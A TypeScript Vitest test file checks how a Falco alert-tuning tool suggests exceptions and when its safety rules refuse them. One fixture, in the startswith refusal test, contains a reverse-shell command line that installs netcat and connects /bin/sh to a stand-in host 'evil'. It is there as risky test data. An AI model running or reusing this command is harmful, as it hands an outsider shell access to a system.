// The tune fold: tuples and their evidence, each safety rule at its boundary, and bounded memory.
import { beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../../src/alert/alert.js';
import { enrich, type EnrichedAlert } from '../../src/enrich/enrich.js';
import { indexKnowledgeBase, loadKnowledgeBase, type KnowledgeBase } from '../../src/kb/knowledge-base.js';
import type { KbEntry } from '../../src/kb/load-kb.js';
import { cachedMatcher } from '../../src/kb/match-entry.js';
import { kbEntrySchema } from '../../src/kb/schema.js';
import { checkExceptions } from '../../src/tune/check.js';
import { renderRulesFile } from '../../src/tune/render-exceptions.js';
import { createTuneCollector, exceptionName, type RuleTuning, type TuneOptions, type TuneResult } from '../../src/tune/suggest.js';
import { alertFrom } from '../helpers.js';

let kb: KnowledgeBase;
let match: (a: Alert) => ReturnType<ReturnType<typeof cachedMatcher>>;
beforeAll(async () => {
  kb = await loadKnowledgeBase();
  match = cachedMatcher(kb);
});

const SHELL = 'Terminal shell in container';
const PKG = 'Launch Package Management Process in Container';
const ROOT = 'Container Run as Root User';
let clock = Date.parse('2026-11-27T09:00:00Z');

/** One alert of a rule with these output fields; time advances by a minute per alert unless given. */
function alert(rule: string, fields: Record<string, unknown>, extra: Record<string, unknown> = {}): EnrichedAlert {
  clock += 60_000;
  const a = alertFrom({ rule, priority: 'Notice', source: 'syscall', hostname: 'node-1', time: new Date(clock).toISOString(), output_fields: fields, ...extra });
  return enrich(a, match(a));
}

function shell(image: string, proc: string, extra: Record<string, unknown> = {}, fields: Record<string, unknown> = {}): EnrichedAlert {
  return alert(SHELL, { 'container.image.repository': image, 'proc.name': proc, 'proc.cmdline': proc, 'k8s.ns.name': 'ci', ...fields }, extra);
}

function times<T>(n: number, f: (i: number) => T): T[] {
  return Array.from({ length: n }, (_, i) => f(i));
}

function tune(alerts: readonly EnrichedAlert[], opts: TuneOptions = {}): TuneResult {
  const c = createTuneCollector(opts);
  for (const e of alerts) c.add(e);
  return c.finish();
}

function ruleOf(r: TuneResult, rule: string): RuleTuning {
  const found = r.rules.find((x) => x.rule === rule);
  if (!found) throw new Error(`no ${rule}`);
  return found;
}

const rowsOf = (r: RuleTuning): unknown[] => r.rows.map((x) => x.values);
const codesOf = (r: RuleTuning): string[][] => r.refusals.map((f) => [...f.codes]);

describe('tuples and evidence', () => {
  it('keys on the KB entry fields and keeps count, time range, hosts, namespaces and one command line', () => {
    const alerts = [
      shell('ci/runner', 'bash', { hostname: 'ci-2', time: '2026-11-27T10:00:00.000000000Z' }, { 'proc.cmdline': 'bash -l' }),
      ...times(5, (i) => shell('ci/runner', 'bash', { hostname: i < 3 ? 'ci-1' : 'ci-2', time: `2026-11-27T08:0${i}:00.000000000Z` }, { 'k8s.ns.name': i === 0 ? 'ci-x' : 'ci' })),
    ];
    const r = ruleOf(tune(alerts), SHELL);
    expect(r.keys).toMatchObject({ fields: ['container.image.repository', 'proc.name'], comps: ['=', '='], from: 'kb' });
    expect(rowsOf(r)).toEqual([['ci/runner', 'bash']]);
    expect(r.rows[0]?.evidence).toEqual({
      count: 6,
      firstSeen: '2026-11-27T08:00:00.000000000Z',
      lastSeen: '2026-11-27T10:00:00.000000000Z',
      hosts: [{ value: 'ci-1', count: 3 }, { value: 'ci-2', count: 3 }],
      hostsDistinct: 2,
      namespaces: [{ value: 'ci', count: 5 }, { value: 'ci-x', count: 1 }],
      namespacesDistinct: 2,
      example: { field: 'proc.cmdline', value: 'bash -l' },
    });
    expect(r.covered).toBe(6);
    expect(r.exceptionName).toMatch(/^falco_report_container_image_repository_proc_name_[0-9a-f]{8}$/);
  });

  it('orders rules by alerts and rows by count, then by value, the same on every run', () => {
    const alerts = [...times(5, () => shell('b', 'sh')), ...times(7, () => shell('a', 'bash')), ...times(5, () => shell('a', 'sh')), ...times(20, () => alert(ROOT, { 'container.image.repository': 'x' })), ...times(20, () => alert(ROOT, { 'container.image.repository': 'y' }))];
    const a = tune(alerts);
    expect(a.rules.map((r) => r.rule)).toEqual([ROOT, SHELL]);
    expect(rowsOf(ruleOf(a, SHELL))).toEqual([['a', 'bash'], ['a', 'sh'], ['b', 'sh']]);
    expect(tune(alerts)).toEqual(a);
    expect(a.totals).toEqual({ alerts: 57, rules: 2, tunedRules: 2, rows: 5, covered: 57 });
  });

  it('names exceptions validly, and differently when the rows differ', () => {
    const keys = { fields: ['proc.aname[2]', 'k8s.ns.name'], comps: ['=', '='] as const, from: 'kb' as const };
    const row = (v: string) => ({ values: [v, 'ns'], evidence: { count: 1, hosts: [], hostsDistinct: 0, namespaces: [], namespacesDistinct: 0 } });
    const a = exceptionName('R', keys, [row('a')]);
    expect(a).toMatch(/^falco_report_proc_aname_2_k8s_ns_name_[0-9a-f]{8}$/);
    expect(exceptionName('R', keys, [row('a')])).toBe(a);
    expect(exceptionName('R', keys, [row('b')])).not.toBe(a);
    expect(exceptionName('S', keys, [row('a')])).not.toBe(a);
  });
});

describe('safety rules', () => {
  it('min-count: a tuple seen --min-count times is suggested, one fewer is not', () => {
    const r = ruleOf(tune([...times(3, () => shell('i', 'bash')), ...times(2, () => shell('i', 'sh'))], { minCount: 3 }), SHELL);
    expect(rowsOf(r)).toEqual([['i', 'bash']]);
    expect(r.refusals).toEqual([{ values: ['i', 'sh'], count: 2, codes: ['min-count'], reasons: ['seen 2 times, fewer than --min-count 3'] }]);
  });

  it('max-priority: one alert above it refuses the tuple; at it is fine', () => {
    const alerts = [...times(5, () => shell('i', 'bash', { priority: 'Warning' })), ...times(4, () => shell('i', 'sh')), shell('i', 'sh', { priority: 'Error' })];
    const r = ruleOf(tune(alerts), SHELL);
    expect(rowsOf(r)).toEqual([['i', 'bash']]);
    expect(r.refusals[0]).toMatchObject({ values: ['i', 'sh'], codes: ['priority'], reasons: ['1 of 5 alerts: above --max-priority Warning, up to Error'] });
    expect(rowsOf(ruleOf(tune(alerts, { maxPriority: 'Error' }), SHELL))).toEqual([['i', 'bash'], ['i', 'sh']]);
  });

  it('tactic beyond execution: refused unless allowed after review, or explained by a KB benign pattern', () => {
    const pkg = (cmd: string): EnrichedAlert => alert(PKG, { 'container.image.repository': 'node', 'proc.cmdline': cmd, 'proc.name': cmd.split(' ')[0] }, { priority: 'Error' });
    const alerts = [...times(5, () => pkg('apt-get update')), ...times(5, () => pkg('dpkg -l'))];
    const strict = ruleOf(tune(alerts, { maxPriority: 'Error' }), PKG);
    // `dpkg -l` matches the KB's "read-only package inventory" benign pattern: not a reason to refuse.
    expect(rowsOf(strict)).toEqual([['node', 'dpkg -l']]);
    expect(strict.refusals.map((f) => [f.values, f.codes])).toEqual([[['node', 'apt-get update'], ['tactic']]]);
    expect(strict.refusals[0]?.reasons[0]).toContain('--allow-tactic command-and-control');
    expect(rowsOf(ruleOf(tune(alerts, { maxPriority: 'Error', allowTactics: ['command-and-control'] }), PKG))).toEqual([['node', 'apt-get update'], ['node', 'dpkg -l']]);
    // Execution itself (the shell rule) is not beyond execution.
    expect(rowsOf(ruleOf(tune(times(5, () => shell('i', 'bash'))), SHELL))).toHaveLength(1);
  });

  it('a rule the KB does not know is judged by the mitre_ tags of its alerts', () => {
    const custom = (tags: string[]) => times(5, () => alert('My custom credential rule', { 'proc.name': 'cat', 'proc.pname': 'sh' }, { tags }));
    expect(codesOf(ruleOf(tune(custom(['mitre_credential_access'])), 'My custom credential rule'))).toEqual([['tactic']]);
    expect(ruleOf(tune(custom(['mitre_execution'])), 'My custom credential rule').rows).toHaveLength(1);
  });

  it('isRisky: one alert of a high-risk incident refuses its tuple, counted per tuple', () => {
    const alerts = [...times(5, (i) => shell('i', 'bash', {}, { 'container.id': i === 0 ? 'evil' : 'fine' })), ...times(5, () => shell('i', 'sh'))];
    const r = ruleOf(tune(alerts, { isRisky: (e) => e.alert.fields['container.id'] === 'evil', riskyLabel: 'in incident #3' }), SHELL);
    expect(rowsOf(r)).toEqual([['i', 'sh']]);
    expect(r.refusals).toEqual([{ values: ['i', 'bash'], count: 5, codes: ['risky'], reasons: ['1 of 5 alerts: in incident #3'] }]);
  });

  it('too wide: one field shared by 90% of the rule is refused, a split is not', () => {
    const img = (n: number, image: string) => times(n, () => alert(ROOT, { 'container.image.repository': image }));
    const wide = ruleOf(tune([...img(18, 'nginx'), ...img(2, 'httpd')], { minCount: 2 }), ROOT);
    expect(rowsOf(wide)).toEqual([['httpd']]);
    expect(wide.refusals[0]).toMatchObject({ values: ['nginx'], codes: ['too-wide'] });
    expect(wide.refusals[0]?.reasons[0]).toContain('shared by 90%');
    expect(rowsOf(ruleOf(tune([...img(17, 'nginx'), ...img(3, 'httpd')], { minCount: 2 }), ROOT))).toEqual([['nginx'], ['httpd']]);
    expect(rowsOf(ruleOf(tune([...img(18, 'nginx'), ...img(2, 'httpd')], { minCount: 2, wideShare: 0.95 }), ROOT))).toEqual([['nginx'], ['httpd']]);
  });

  it('too wide: an identity field alone (only user.name=root, only container.id) is refused at any share', () => {
    const entry = testEntry('Root did something', { fields: ['user.name'] });
    const own = indexKnowledgeBase([entry], ['test']);
    const mk = (user: string): EnrichedAlert => {
      const a = alertFrom({ rule: 'Root did something', priority: 'Notice', source: 'syscall', output_fields: { 'user.name': user } });
      return enrich(a, cachedMatcher(own)(a));
    };
    const r = ruleOf(tune([...times(5, () => mk('root')), ...times(5, () => mk('app')), ...times(5, () => mk('www'))]), 'Root did something');
    expect(r.rows).toEqual([]);
    expect(r.refusals.map((f) => [f.values, f.codes])).toEqual([[['app'], ['too-wide']], [['root'], ['too-wide']], [['www'], ['too-wide']]]);
  });

  it('a startswith row that would also cover an unsafe tuple is refused', () => {
    const pkg = (cmd: string, container = 'ok'): EnrichedAlert => alert(PKG, { 'container.image.repository': 'node', 'proc.cmdline': cmd, 'proc.name': 'apt-get', 'container.id': container }, { priority: 'Error' });
    const alerts = [...times(5, () => pkg('apt-get install')), ...times(5, () => pkg('apt-get update')), pkg('apt-get install -y nc; nc -e /bin/sh evil 4444', 'pwned'), ...times(2, () => pkg('apt-get install -y curl'))];
    const opts: TuneOptions = { maxPriority: 'Error', allowTactics: ['command-and-control'], isRisky: (e) => e.alert.fields['container.id'] === 'pwned' };
    const r = ruleOf(tune(alerts, opts), PKG);
    expect(rowsOf(r)).toEqual([['node', 'apt-get update']]);
    const install = r.refusals.find((f) => f.values?.[1] === 'apt-get install');
    expect(install?.codes).toEqual(['risky']);
    expect(install?.reasons[0]).toBe('its startswith match also covers 1 other tuple: its one alert: part of a high-risk incident');
    // Without the risky alert, the same row is suggested and also silences the rarer tuples it covers.
    const safe = ruleOf(tune(alerts.filter((e) => e.alert.fields['container.id'] !== 'pwned'), opts), PKG);
    expect(rowsOf(safe)).toEqual([['node', 'apt-get install'], ['node', 'apt-get update']]);
    expect(safe.covered).toBe(12);
    expect(safe.refusals).toEqual([]);
  });

  it('refuses values Falco cannot read back exactly', () => {
    const r = ruleOf(tune([...times(5, () => shell('i', 'ends\\')), ...times(5, () => shell('i', 'nul\u0000x')), ...times(5, () => shell('i', 'x'.repeat(5000)))]), SHELL);
    expect(r.rows).toEqual([]);
    expect(r.refusals.map((f) => f.reasons[0])).toEqual([
      "the proc.name value ends with a backslash, which Falco's condition lexer cannot quote",
      'the proc.name value contains a NUL character',
      'the proc.name value longer than 4096 characters',
    ]);
  });

  it('--max-rows caps an exception; the rest are listed', () => {
    const r = ruleOf(tune(['a', 'b', 'c', 'd'].flatMap((p) => times(5, () => shell('i', p))), { maxRows: 3 }), SHELL);
    expect(r.rows).toHaveLength(3);
    expect(codesOf(r)).toEqual([['max-rows']]);
  });
});

describe('fields to key on', () => {
  it('alerts without a known value for a keyed field are counted as unkeyed, never guessed', () => {
    const r = ruleOf(tune([...times(5, () => shell('i', 'bash')), shell('i', '<NA>'), shell('i', 'bash', {}, { 'container.image.repository': null })]), SHELL);
    expect(rowsOf(r)).toEqual([['i', 'bash']]);
    expect(r.refusals).toEqual([{ count: 2, codes: ['unkeyed'], reasons: ['2 alerts lack a known value for container.image.repository (1), proc.name (1); Falco exceptions never match an unknown field'] }]);
  });

  it('falls back to the source defaults the alerts carry when the KB fields are not in them', () => {
    const r = ruleOf(tune(times(5, () => alert(SHELL, { 'proc.name': 'bash', 'proc.pname': 'runc' }))), SHELL);
    expect(r.keys).toEqual({ fields: ['proc.name', 'proc.pname'], comps: ['=', '='], from: 'default', note: 'the KB entry keys on container.image.repository, proc.name, but the alerts do not carry container.image.repository' });
  });

  it('uses per-source defaults for rules the KB does not know', () => {
    const k8s = ruleOf(tune(times(5, () => alert('My k8s rule', { 'ka.user.name': 'ci-bot', 'ka.target.namespace': 'prod', 'ka.verb': 'create' }, { source: 'k8s_audit' }))), 'My k8s rule');
    expect(k8s.keys?.fields).toEqual(['ka.user.name', 'ka.target.namespace']);
    expect(rowsOf(k8s)).toEqual([['ci-bot', 'prod']]);
    const sys = ruleOf(tune(times(5, () => alert('My syscall rule', { 'proc.name': 'x', 'proc.pname': 'y', 'container.image.repository': 'z', 'user.name': 'root' }))), 'My syscall rule');
    expect(sys.keys?.fields).toEqual(['proc.name', 'proc.pname', 'container.image.repository']);
    const plugin = ruleOf(tune(times(5, () => alert('My plugin rule', { 'foo.bar': 'x' }, { source: 'foo' }))), 'My plugin rule');
    expect(plugin.keys).toBeUndefined();
    expect(codesOf(plugin)).toEqual([['no-fields']]);
  });

  it("names the rule's first alert as the one that carried no field to key on, as later ones may", () => {
    const r = ruleOf(tune([alert('My syscall rule', { 'fd.name': '/x' }), ...times(5, () => alert('My syscall rule', { 'proc.name': 'x', 'proc.pname': 'y' }))]), 'My syscall rule');
    expect(r.keys).toBeUndefined();
    expect(r.refusals).toEqual([
      { count: 6, codes: ['no-fields'], reasons: ["no KB exception fields apply and the rule's first alert, which picks the fields to key on, carries none of proc.name, proc.pname, container.image.repository"] },
    ]);
  });

  it('writes a list for an `in` field, the list field\'s values sorted', () => {
    const pod = (images: string[]): EnrichedAlert => alert('Create Disallowed Pod', { 'ka.target.namespace': 'ci', 'ka.req.pod.containers.image': images, 'ka.user.name': 'u' }, { source: 'k8s_audit', priority: 'Warning' });
    const r = ruleOf(tune([...times(3, () => pod(['b:1', 'a:2'])), ...times(2, () => pod(['a:2', 'b:1', 'a:2'])), ...times(5, () => pod(['a:2'])), pod(['a:2', '<NA>'])]), 'Create Disallowed Pod');
    expect(r.keys?.comps).toEqual(['=', 'in']);
    // ['a:2'] alone is a subset of ['a:2', 'b:1']: the wider row covers it, and says so in `covered`.
    expect(rowsOf(r)).toEqual([['ci', ['a:2', 'b:1']], ['ci', ['a:2']]]);
    expect(r.covered).toBe(10);
    expect(codesOf(r)).toEqual([['unkeyed']]);
  });

  it("skips Falco's own events", () => {
    const r = ruleOf(tune([alert('Falco internal: syscall event drop', { n_drops: 1 }, { source: 'internal', priority: 'Debug' })]), 'Falco internal: syscall event drop');
    expect(codesOf(r)).toEqual([['internal']]);
  });
});

describe('bounded memory', () => {
  it('prunes rare tuples past twice the limit and says counts are lower bounds', () => {
    const alerts = [...times(6, () => shell('i', 'bash')), ...times(100, (i) => shell('i', `p${i}`))];
    const r = ruleOf(tune(alerts, { limits: { tuplesPerRule: 4 } }), SHELL);
    expect(r.approximate).toBe(true);
    expect(rowsOf(r)).toEqual([['i', 'bash']]);
    expect(r.refusals[0]?.codes).toEqual(['approximate']);
  });

  it('never forgets an unsafe alert, even when its tuple was pruned', () => {
    const alerts = [
      shell('i', 'nc', {}, { 'container.id': 'evil' }),
      ...times(50, (i) => shell('i', `p${i}`)),
      ...times(10, () => shell('i', 'nc')),
    ];
    const r = ruleOf(tune(alerts, { limits: { tuplesPerRule: 4 }, isRisky: (e) => e.alert.fields['container.id'] === 'evil' }), SHELL);
    expect(rowsOf(r)).toEqual([]);
    expect(r.refusals.find((f) => f.values?.[1] === 'nc')?.codes).toEqual(['risky']);
  });

  it('refuses the whole rule when its unsafe tuples outgrow what is remembered', () => {
    const alerts = [...times(3, (i) => shell('i', `evil${i}`, { priority: 'Critical' })), ...times(5, () => shell('i', 'bash'))];
    const r = ruleOf(tune(alerts, { limits: { flaggedPerRule: 2 } }), SHELL);
    expect(r.rows).toEqual([]);
    expect(r.refusals.find((f) => f.values?.[1] === 'bash')?.reasons[0]).toContain('too many to tell them apart');
  });

  it('counts alerts of rules past the rule limit without tuning them', () => {
    const r = tune([...times(5, () => shell('i', 'bash')), ...times(5, () => alert(ROOT, { 'container.image.repository': 'x' }))], { limits: { rules: 1 } });
    expect(r.rules.map((x) => x.rule)).toEqual([SHELL]);
    expect(r.untrackedAlerts).toBe(5);
    expect(r.totals.alerts).toBe(10);
    expect(renderRulesFile(r)).toContain('# 5 alerts of rules past the tracked-rule limit were counted but not tuned.');
  });
});

describe('what the rows cover is what the written file silences', () => {
  it('for =, startswith and in rows alike', async () => {
    const pod = (images: string[]): EnrichedAlert => alert('Create Disallowed Pod', { 'ka.target.namespace': 'ci', 'ka.req.pod.containers.image': images }, { source: 'k8s_audit', priority: 'Warning' });
    const pkg = (cmd: string): EnrichedAlert => alert(PKG, { 'container.image.repository': 'node', 'proc.cmdline': cmd }, { priority: 'Error' });
    const alerts = [
      ...times(5, () => shell('i', 'bash')),
      ...times(2, () => shell('i', 'sh')),
      ...times(5, () => pod(['b', 'a'])),
      pod(['a']),
      pod(['c']),
      ...times(5, () => pkg('apt-get install')),
      pkg('apt-get install -y x'),
      pkg('yum install'),
    ];
    const result = tune(alerts, { maxPriority: 'Error', allowTactics: ['command-and-control'] });
    const check = await checkExceptions(renderRulesFile(result), alerts.map((e) => e.alert));
    expect(check.problems).toEqual([]);
    for (const r of result.rules) expect([r.rule, check.rules.find((c) => c.rule === r.rule)?.silenced]).toEqual([r.rule, r.covered]);
    expect(result.totals.covered).toBe(5 + 6 + 6);
  });
});

/** A minimal valid KB entry with the given exception, for rules the built-in KB does not have. */
function testEntry(rule: string, exception: { fields: string[]; comps?: ('=' | 'in' | 'startswith')[] }): KbEntry {
  const data = kbEntrySchema.parse({
    rule,
    source: 'syscall',
    priority: 'Notice',
    maturity: 'sandbox',
    summary: 'A test rule.',
    detects: 'Something.',
    why: 'Because.',
    investigate: [{ title: 'Look', run: 'true', explain: 'Nothing.' }],
    references: [{ title: 'Falco', url: 'https://falco.org/' }],
    exception,
  });
  return { ...data, file: 'test.yaml', origin: 'test' };
}
